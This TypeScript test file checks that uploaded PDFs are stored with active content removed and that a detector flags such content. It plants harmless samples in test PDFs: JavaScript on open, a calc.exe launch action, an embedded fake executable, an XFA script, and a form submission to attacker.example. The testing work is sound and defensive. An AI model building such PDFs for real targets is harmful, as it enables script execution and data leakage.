// An uploaded PDF is stored without active content (docs/contract.md §13): each way a PDF can run
// a script, launch a program or carry a file is planted in a PDF built here, and the stored copy
// must hold none of it and still open, with its pages and its web link.
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFName,
  PDFRef,
  PDFStream,
  PDFString,
  type PDFObject,
} from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { hasActiveContent } from './pdfActiveContent';
import { checkUpload } from './uploads';

const SCRIPT = 'app.alert("planted script")';

type Plant = (doc: PDFDocument) => void;

const script = (doc: PDFDocument) => doc.context.obj({ S: 'JavaScript', JS: PDFString.of(SCRIPT) });

/** Each way of carrying active content, planted in an otherwise plain one-page PDF. */
const PLANTS: Record<string, Plant> = {
  'a script run as the file opens (catalog /OpenAction)': (doc) => {
    doc.catalog.set(PDFName.of('OpenAction'), script(doc));
  },
  'a script kept in a stream (/JS as a stream)': (doc) => {
    const stream = doc.context.register(doc.context.stream(SCRIPT));
    doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ S: 'JavaScript', JS: stream }));
  },
  'document scripts (/Names /JavaScript)': (doc) => {
    const tree = doc.context.obj({
      Names: [PDFString.of('init'), doc.context.register(script(doc))],
    });
    doc.catalog.set(PDFName.of('Names'), doc.context.obj({ JavaScript: tree }));
  },
  'a document action (catalog /AA)': (doc) => {
    doc.catalog.set(PDFName.of('AA'), doc.context.obj({ WC: script(doc) }));
  },
  'a page action (page /AA)': (doc) => {
    doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({ O: script(doc) }));
  },
  'a link that launches a program (annotation /A /Launch)': (doc) => {
    const launch = doc.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 0, 50, 50],
      A: { S: 'Launch', F: PDFString.of('calc.exe') },
    });
    annotate(doc, doc.context.register(launch));
  },
  'a link with a script (annotation /A /JavaScript)': (doc) => {
    const link = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 50, 50] });
    link.set(PDFName.of('A'), doc.context.register(script(doc)));
    annotate(doc, doc.context.register(link));
  },
  'a web link followed by a script (/Next)': (doc) => {
    const link = doc.context.obj({
      Type: 'Annot',
      Subtype: 'Link',
      Rect: [0, 0, 50, 50],
      A: { S: 'URI', URI: PDFString.of('https://example.org/'), Next: script(doc) },
    });
    annotate(doc, doc.context.register(link));
  },
  'an attached file (/Names /EmbeddedFiles)': (doc) => {
    const file = doc.context.register(
      doc.context.stream('MZ planted executable', { Type: 'EmbeddedFile' }),
    );
    const spec = doc.context.obj({ Type: 'Filespec', F: PDFString.of('run.exe'), EF: { F: file } });
    const tree = doc.context.obj({ Names: [PDFString.of('run.exe'), spec] });
    doc.catalog.set(PDFName.of('Names'), doc.context.obj({ EmbeddedFiles: tree }));
  },
  'an XFA form (/AcroForm /XFA)': (doc) => {
    const xfa = doc.context.register(
      doc.context.stream(`<xdp:xdp><script>${SCRIPT}</script></xdp:xdp>`),
    );
    doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: xfa }));
  },
  'a form field action (widget /AA, submitting the form)': (doc) => {
    const widget = doc.context.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Btn',
      T: PDFString.of('go'),
      Rect: [0, 0, 50, 50],
      A: { S: 'SubmitForm', F: PDFString.of('https://attacker.example/') },
      AA: { Fo: script(doc) },
    });
    const ref = doc.context.register(widget);
    annotate(doc, ref);
    doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [ref] }));
  },
};

/** Adds an annotation to the first page. */
function annotate(doc: PDFDocument, annotation: PDFRef): void {
  const page = doc.getPage(0).node;
  const annots = page.lookup(PDFName.of('Annots'));
  if (annots instanceof PDFArray) annots.push(annotation);
  else page.set(PDFName.of('Annots'), doc.context.obj([annotation]));
}

/** A one-page PDF with a web link on its page, and `plant`. */
async function pdfWith(plant: Plant): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.addPage([200, 200]).drawText('Form', { x: 20, y: 100 });
  annotate(
    doc,
    doc.context.register(
      doc.context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [100, 100, 150, 150],
        A: { S: 'URI', URI: PDFString.of('https://example.org/kept') },
      }),
    ),
  );
  plant(doc);
  return Buffer.from(await doc.save());
}

const ACTIVE_KEYS = ['OpenAction', 'AA', 'JS', 'JavaScript', 'EmbeddedFiles', 'EF', 'XFA', 'Next'];

/** Every key of every dictionary in the file, and every action's kind. */
function structure(doc: PDFDocument): { keys: Set<string>; actions: Set<string> } {
  const keys = new Set<string>();
  const actions = new Set<string>();
  const walk = (object: PDFObject | undefined): void => {
    const dict = object instanceof PDFStream ? object.dict : object;
    if (dict instanceof PDFDict) {
      for (const [key, value] of dict.entries()) {
        keys.add(key.decodeText());
        if (key.decodeText() === 'S' && value instanceof PDFName) actions.add(value.decodeText());
        walk(value);
      }
    } else if (dict instanceof PDFArray) dict.asArray().forEach(walk);
  };
  for (const [, object] of doc.context.enumerateIndirectObjects()) walk(object);
  return { keys, actions };
}

/** The active keys and the kinds of action other than a link that `structure` found. */
const activeIn = ({ keys, actions }: ReturnType<typeof structure>) => [
  ...ACTIVE_KEYS.filter((key) => keys.has(key)),
  ...[...actions].filter((kind) => kind !== 'URI' && kind !== 'GoTo'),
];

describe('an uploaded PDF is stored without active content', () => {
  it.each(Object.entries(PLANTS))('%s', async (_name, plant) => {
    const uploaded = await pdfWith(plant);
    // The planted content is really in the uploaded file.
    const before = structure(await PDFDocument.load(uploaded));
    expect(activeIn(before).length).toBeGreaterThan(0);

    const stored = await checkUpload('application/pdf', uploaded);
    expect(stored.type).toBe('application/pdf');
    const doc = await PDFDocument.load(stored.bytes);
    expect(doc.getPageCount()).toBe(1);
    expect(activeIn(structure(doc))).toEqual([]);
    // Nothing of it is left in the bytes either, not even as an object no longer used.
    const text = stored.bytes.toString('latin1');
    for (const key of ACTIVE_KEYS) expect(text).not.toMatch(new RegExp(`/${key}\\b`));
    for (const trace of ['planted', 'calc.exe', 'run.exe', '/Launch', '/SubmitForm'])
      expect(text).not.toContain(trace);
    // The page's web link stays.
    expect(text).toContain('https://example.org/kept');
  });

  it('keeps the shipped forms readable, page for page', async () => {
    const dir = join(import.meta.dirname, '../../data/downloads');
    for (const name of (await readdir(dir)).filter((n) => n.endsWith('.pdf')).slice(0, 3)) {
      const bytes = await readFile(join(dir, name));
      const stored = await checkUpload('application/pdf', bytes);
      const [from, to] = await Promise.all([bytes, stored.bytes].map((b) => PDFDocument.load(b)));
      expect(to!.getPageCount(), name).toBe(from!.getPageCount());
    }
  });
});

// The investor's attachments refuse what the content desk would strip (docs/contract.md §7b).
describe('hasActiveContent, the attachments’ refusal', () => {
  it.each(Object.entries(PLANTS))('finds %s', async (_name, plant) => {
    expect(hasActiveContent(await PDFDocument.load(await pdfWith(plant)))).toBe(true);
  });

  it('finds nothing in a plain PDF with a web link and bookmarks (an outline’s /Next is no action)', async () => {
    const doc = await PDFDocument.load(await pdfWith(() => undefined));
    const outlines = doc.context.nextRef();
    const [first, second] = [doc.context.nextRef(), doc.context.nextRef()];
    const page = doc.getPage(0).ref;
    const item = (title: string, extra: Record<string, PDFRef>) =>
      doc.context.obj({
        Title: PDFString.of(title),
        Parent: outlines,
        Dest: [page, 'Fit'],
        ...extra,
      });
    doc.context.assign(first, item('One', { Next: second }));
    doc.context.assign(second, item('Two', { Prev: first }));
    doc.context.assign(outlines, doc.context.obj({ Type: 'Outlines', First: first, Last: second }));
    doc.catalog.set(PDFName.of('Outlines'), outlines);
    expect(hasActiveContent(await PDFDocument.load(await doc.save()))).toBe(false);
    const dir = join(import.meta.dirname, '../../data/downloads');
    const shipped = (await readdir(dir)).find((n) => n.endsWith('.pdf'))!;
    expect(hasActiveContent(await PDFDocument.load(await readFile(join(dir, shipped))))).toBe(
      false,
    );
  });
});
